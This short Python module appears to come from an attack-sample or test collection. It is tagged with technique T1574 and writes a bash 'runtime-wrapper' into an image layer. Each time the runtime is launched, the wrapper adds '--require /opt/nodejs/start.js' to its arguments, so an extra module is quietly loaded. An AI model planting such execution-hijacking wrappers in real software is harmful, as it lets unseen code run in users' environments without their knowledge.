# SPDX-License-Identifier: Apache-2.0
"""A wrapper that slips a module into the command of the runtime."""

ATTACK = "T1574"
LANGUAGE = "any"
CODE = """\
#!/bin/bash
args=("$1" --require /opt/nodejs/start.js "${@:2}")
exec "${args[@]}"
"""


def poison(layer):
    layer.write("runtime-wrapper", CODE, 0o100755)
